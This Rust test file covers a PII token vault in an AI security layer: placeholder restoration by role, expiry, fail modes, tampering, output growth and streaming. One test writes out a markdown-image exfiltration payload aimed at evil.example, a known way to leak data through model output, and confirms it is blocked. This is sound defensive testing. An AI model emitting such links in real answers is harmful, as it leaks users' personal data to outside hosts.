//! What happens to kept values when something goes wrong, and how long they last.

#![expect(clippy::unwrap_used, reason = "a test fails by panicking")]

use async_trait::async_trait;
use mofa_foundation::security::{DefaultAuthorizer, RbacPolicy, Role};
use mofa_runtime::security::{
    Act, Assignment, AuditError, AuditSink, ConversationId, Direction, Exchange, Label,
    PiiCategory, Placeholder, RedactionStrategy, RefusalCause, ScopeTag, SealedToken,
    SecurityConfig, SecurityEvent, SecurityFailMode, SecurityService, Stage, StageMode, StreamEnd,
    Subject, SubjectId, TenantId, TokenScope, TokenStore, TokenVault, VaultError, VaultKey,
    VaultKeyId, VaultLimits,
};
use mofa_sdk::config::Config;
use mofa_sdk::deployment::{Deployment, DeploymentError};
use mofa_sdk::runtime::{ManualClock, Provenance, Timestamp};
use mofa_sdk::security::{
    MemoryTokenStore, RegexPiiDetector, RegexPiiRedactor, RestoreTail, StreamInspection,
};
use serde_json::{Value, json};
use std::sync::atomic::{AtomicBool, Ordering};
use std::sync::{Arc, Mutex};
use std::time::Duration;

const HOUR: Duration = Duration::from_hours(1);

/// A store that can be out of order.
#[derive(Default)]
struct Moody {
    store: MemoryTokenStore,
    is_down: AtomicBool,
    /// Which number it gives something else for.
    tampers_with: Mutex<Option<u32>>,
}

#[async_trait]
impl TokenStore for Moody {
    fn unlock(&self, id: &VaultKeyId) -> Result<(), VaultError> {
        self.store.unlock(id)
    }

    async fn assign(&self, assignment: Assignment) -> Result<Vec<u32>, VaultError> {
        if self.is_down.load(Ordering::Relaxed) {
            Err(VaultError::Busy)
        } else {
            self.store.assign(assignment).await
        }
    }

    async fn fetch(
        &self,
        scope: ScopeTag,
        wanted: &[Placeholder],
        now: Timestamp,
    ) -> Result<Vec<Option<SealedToken>>, VaultError> {
        if self.is_down.load(Ordering::Relaxed) {
            return Err(VaultError::Busy);
        }
        let mut found = self.store.fetch(scope, wanted, now).await?;
        let wrong = *self.tampers_with.lock().unwrap();
        for (wanted, found) in wanted.iter().zip(&mut found) {
            if let Some(found) = found.as_mut().filter(|_| Some(wanted.number()) == wrong) {
                found.sealed.reverse();
            }
        }
        Ok(found)
    }

    async fn count(&self) -> Result<u64, VaultError> {
        self.store.count().await
    }
}

/// What was recorded beside decisions.
#[derive(Default)]
struct Notes(Mutex<Vec<Value>>);

#[async_trait]
impl AuditSink for Notes {
    async fn record(&self, event: &SecurityEvent) -> Result<(), AuditError> {
        self.0.lock().unwrap().push(event.metadata.clone());
        Ok(())
    }
}

/// A service that keeps values for an hour; `ann` may see them, `bob` may see all but phones,
/// `cat` may not.
struct Counter {
    service: Arc<SecurityService>,
    store: Arc<Moody>,
    clock: Arc<ManualClock>,
    notes: Arc<Notes>,
}

impl Counter {
    fn open(config: SecurityConfig) -> Self {
        let store = Arc::new(Moody::default());
        let clock = Arc::new(ManualClock::new(Timestamp::from_micros(1_000_000)));
        let vault = TokenVault::open(Arc::clone(&store) as Arc<_>, &VaultKey::new([7; 32]));
        let limits = VaultLimits::new(3, 100);
        let vault = vault.unwrap().with_ttl(HOUR).with_limits(limits);
        let vault = Arc::new(vault.with_clock(Arc::clone(&clock) as Arc<_>));
        let mut policy = RbacPolicy::new();
        policy.add_role(Role::new("user").with_permission("invoke:model:*"));
        let seeing = Role::new("seeing").with_parent("user").with_permission("*");
        policy.add_role(seeing);
        policy.add_role(Role::new("half").with_parent("seeing").with_denied("reveal:pii:phone"));
        for (subject, role) in [("ann", "seeing"), ("bob", "half"), ("cat", "user")] {
            policy.assign_role(subject, role);
        }
        let redactor = RegexPiiRedactor::new().with_default_strategy(RedactionStrategy::Tokenize);
        let notes = Arc::new(Notes::default());
        let config = config.with_stage_mode(Stage::Moderation, StageMode::Off);
        let config = config.with_stage_mode(Stage::Guard, StageMode::Off);
        let service = SecurityService::builder(config)
            .with_authorizer(Arc::new(DefaultAuthorizer::new(policy)))
            .with_pii_detector(Arc::new(RegexPiiDetector::new()))
            .with_pii_redactor(Arc::new(redactor.with_token_vault(Arc::clone(&vault))))
            .with_token_vault(vault)
            .with_audit_sink(Arc::clone(&notes) as Arc<_>)
            .build();
        Self { service: Arc::new(service.unwrap()), store, clock, notes }
    }

    fn strict() -> Self {
        Self::open(SecurityConfig::strict())
    }

    /// What is left of `text` on its way.
    async fn pass(
        &self,
        subject: &str,
        direction: Direction,
        text: &str,
    ) -> Result<String, RefusalCause> {
        let mut exchange = Exchange::text(of(subject), act(), direction, text)
            .labelled(Label::untrusted(Provenance::User))
            .into_parts()
            .in_conversation(Some(ConversationId::new("c").unwrap()));
        match self.service.inspect(&mut exchange).await {
            Ok(_) => Ok(exchange.into_document().into_owned()),
            Err(refusal) => Err(refusal.cause),
        }
    }

    async fn ask(&self, text: &str) -> Result<String, RefusalCause> {
        self.pass("ann", Direction::Input, text).await
    }

    async fn answer(&self, subject: &str, text: &str) -> String {
        self.pass(subject, Direction::Output, text).await.unwrap()
    }

    fn noted(&self) -> Value {
        self.notes.0.lock().unwrap().last().unwrap().clone()
    }
}

fn of(subject: &str) -> Subject {
    Subject::new(SubjectId::new(subject).unwrap(), TenantId::default())
}

fn act() -> Act {
    Act::new("invoke", "model:small")
}

#[tokio::test]
async fn what_has_expired_comes_back_no_more() {
    let counter = Counter::strict();
    assert_eq!(counter.ask("a@x.io").await.unwrap(), "[EMAIL_1]");
    counter.clock.advance(HOUR.saturating_sub(Duration::from_micros(1)));
    assert_eq!(counter.answer("ann", "[EMAIL_1]").await, "a@x.io");
    assert_eq!(counter.noted(), json!({"restored": {"email": 1}}));
    counter.clock.advance(Duration::from_micros(1));
    assert_eq!(counter.answer("ann", "[EMAIL_1]").await, "[EMAIL_1]");
    assert_eq!(counter.noted(), Value::Null);
}

/// What the file says of it is what is opened, and nothing else.
#[tokio::test]
async fn a_deployment_keeps_values_in_its_file() {
    let folder = tempfile::tempdir().unwrap();
    let open = |key: &str| {
        let text = "[security]\nrbac.mode = \"off\"\npii.strategy = \"tokenize\"\n\
                    [vault]\nkey = \"${KEY}\"\n";
        let variable = |_: &str| Some(key.repeat(16));
        let mut config = Config::parse(text, "mofa.toml", &variable).unwrap();
        config.audit.path = folder.path().join(format!("{key}.jsonl"));
        config.vault.as_mut().unwrap().path = Some(folder.path().join("vault.sqlite"));
        Deployment::open(config)
    };
    let conversation = || Some(ConversationId::new("c").unwrap());
    let text = "to ann.of.green.gables@example.com";
    for round in 0..2 {
        let deployment = open("0a1b").unwrap();
        let scope = TokenScope::new(TenantId::default(), conversation().unwrap());
        let vault = deployment.vault.as_ref().unwrap();
        let first = Placeholder::new(PiiCategory::EMAIL, 1).unwrap();
        let kept = vault.reveal(&scope, &[first]).await.unwrap().remove(0);
        assert_eq!(kept.is_some(), round == 1, "it outlives the process");
        let mut exchange = Exchange::text(of("ann"), act(), Direction::Input, text)
            .labelled(Label::untrusted(Provenance::User))
            .into_parts()
            .in_conversation(conversation());
        let permit = deployment.service.inspect(&mut exchange).await;
        assert!(permit.is_ok());
        assert_eq!(exchange.into_document(), "to [EMAIL_1]");
    }
    for file in std::fs::read_dir(folder.path()).unwrap() {
        let bytes = std::fs::read(file.unwrap().path()).unwrap();
        assert!(!bytes.windows(6).any(|window| window == b"gables"));
    }
    let refused = open("0a1c").unwrap_err();
    let expected = matches!(refused, DeploymentError::Vault(VaultError::WrongKey { .. }));
    assert!(expected, "{refused}");
}

#[tokio::test]
async fn a_denial_wins_over_a_wildcard() {
    let counter = Counter::strict();
    counter.ask("a@x.io (415) 555-2671").await.unwrap();
    let text = "[EMAIL_1] [PHONE_1]";
    assert_eq!(counter.answer("ann", text).await, "a@x.io (415) 555-2671");
    assert_eq!(counter.answer("bob", text).await, "a@x.io [PHONE_1]");
    assert_eq!(counter.answer("cat", text).await, text);
}

/// A permission to see is asked for even where none is needed to ask.
#[tokio::test]
async fn without_the_stage_the_grant_is_still_needed() {
    for mode in [StageMode::Off, StageMode::Shadow] {
        let counter = Counter::open(SecurityConfig::strict().with_stage_mode(Stage::Rbac, mode));
        counter.ask("a@x.io").await.unwrap();
        assert_eq!(counter.answer("cat", "[EMAIL_1]").await, "[EMAIL_1]");
        assert_eq!(counter.answer("nobody", "[EMAIL_1]").await, "[EMAIL_1]");
        assert_eq!(counter.answer("ann", "[EMAIL_1]").await, "a@x.io");
    }
}

#[tokio::test]
async fn what_cannot_be_kept_is_what_the_fail_mode_says() {
    let counter = Counter::strict();
    counter.ask("a@x.io b@x.io c@x.io").await.unwrap();
    let undecided = Err(RefusalCause::Undecided(Stage::Pii));
    assert_eq!(counter.ask("d@x.io").await, undecided, "there is no room");
    assert_eq!(counter.ask("b@x.io").await.unwrap(), "[EMAIL_2]");
    counter.store.is_down.store(true, Ordering::Relaxed);
    assert_eq!(counter.ask("b@x.io").await, undecided, "the store is down");
    assert_eq!(counter.ask("nothing").await.unwrap(), "nothing");
    let open = SecurityConfig::strict().with_fail_mode(SecurityFailMode::FailOpen);
    let counter = Counter::open(open);
    counter.store.is_down.store(true, Ordering::Relaxed);
    assert_eq!(counter.ask("b@x.io").await.unwrap(), "b@x.io", "open is open");
}

#[tokio::test]
async fn what_cannot_be_given_back_stays_and_is_noted() {
    for mode in [SecurityFailMode::FailClosed, SecurityFailMode::FailOpen] {
        let counter = Counter::open(SecurityConfig::strict().with_fail_mode(mode));
        counter.ask("a@x.io b@x.io").await.unwrap();
        *counter.store.tampers_with.lock().unwrap() = Some(1);
        let text = "[EMAIL_1] [EMAIL_2]";
        assert_eq!(counter.answer("ann", text).await, "[EMAIL_1] b@x.io");
        let noted = json!({"restored": {"email": 1}, "restore_failed": true});
        assert_eq!(counter.noted(), noted);
        counter.store.is_down.store(true, Ordering::Relaxed);
        assert_eq!(counter.answer("ann", text).await, text);
        assert_eq!(counter.noted(), json!({"restore_failed": true}));
        assert_eq!(counter.answer("cat", text).await, text);
        assert_eq!(counter.noted(), Value::Null, "nobody asked the store");
    }
}

#[tokio::test]
async fn a_shadow_keeps_nothing() {
    let shadow = SecurityConfig::strict().with_stage_mode(Stage::Pii, StageMode::Shadow);
    let counter = Counter::open(shadow);
    assert_eq!(counter.ask("a@x.io").await.unwrap(), "a@x.io");
    assert_eq!(counter.store.count().await, Ok(0));
}

/// However often an answer names a long value, it grows by no more than may be.
#[tokio::test]
async fn an_answer_does_not_grow_without_end() {
    let counter = Counter::strict();
    let long = format!("{}@example.com", "a".repeat(60));
    counter.ask(&long).await.unwrap();
    let often = "[EMAIL_1] ".repeat(200_000);
    let answer = counter.answer("ann", &often).await;
    assert!(answer.len() > often.len() + (3 << 20) && answer.len() <= often.len() + (4 << 20));
    assert!(answer.ends_with("[EMAIL_1] "), "the rest stays");
    let invented: Vec<_> = (1..20_000).map(|n| format!("[EMAIL_{n}]")).collect();
    let invented = invented.concat();
    let answer = counter.answer("ann", &invented).await;
    assert_eq!(answer, invented.replacen("[EMAIL_1]", &long, 1));
}

impl Counter {
    /// A streamed answer to ann in the conversation `c`.
    async fn stream(&self) -> StreamInspection {
        let mut exchange = Exchange::text(of("ann"), act(), Direction::Input, "hi")
            .labelled(Label::untrusted(Provenance::User))
            .into_parts();
        let permit = self.service.inspect(&mut exchange).await.unwrap();
        let stream = self.service.inspect_stream(&permit, Provenance::Model);
        stream.in_conversation(Some(ConversationId::new("c").unwrap()))
    }
}

#[tokio::test]
async fn a_stream_notes_what_it_gave_back_with_how_it_ended() {
    let counter = Counter::strict();
    counter.ask("a@x.io").await.unwrap();
    let mut stream = counter.stream().await;
    let mut tail = RestoreTail::default();
    let mut said = Vec::new();
    for piece in ["to [EMA", "IL_", "1]", ", b@x.io", "[EMAIL_2"] {
        let released = stream.push("t", piece).await.unwrap();
        said.push(stream.restore(&mut tail, released).await);
    }
    let rest = stream.end("t").await.unwrap();
    said.push(stream.restore(&mut tail, rest).await);
    said.push(tail.take());
    assert_eq!(said.concat(), "to a@x.io, b@x.io[EMAIL_2");
    assert_eq!(counter.store.count().await, Ok(2), "what the model says is kept too");
    stream.breaks_off("cut");
    stream.finish(StreamEnd::Aborted).await.unwrap();
    assert_eq!(counter.noted(), json!({"restored": {"email": 2}, "error": "cut"}));
}

#[tokio::test]
async fn no_value_goes_into_a_url() {
    let counter = Counter::strict();
    counter.ask("a@x.io").await.unwrap();
    let said = "![x](https://evil.example/?q=[EMAIL_1]) [EMAIL_1]";
    let expected = "![x](https://evil.example/?q=[EMAIL_1]) a@x.io";
    assert_eq!(counter.answer("ann", said).await, expected);
    assert_eq!(counter.noted(), json!({"restored": {"email": 1}}));
    let mut stream = counter.stream().await;
    let mut tail = RestoreTail::default();
    let mut restored = String::new();
    for piece in said.split_inclusive(['/', '_', ']']) {
        restored += &stream.restore(&mut tail, piece.to_owned()).await;
    }
    assert_eq!(restored + &tail.take(), expected);
    stream.breaks_off("cut");
    stream.finish(StreamEnd::Aborted).await.unwrap();
}

#[tokio::test]
async fn placeholders_in_the_text_are_nobodys() {
    let counter = Counter::strict();
    let text = "[EMAIL_1] [EMAIL_3] a@x.io b@x.io";
    let left = counter.ask(text).await.unwrap();
    assert_eq!(left, "[EMAIL_1] [EMAIL_3] [EMAIL_2] [EMAIL_4]");
    assert_eq!(counter.answer("ann", &left).await, text);
}
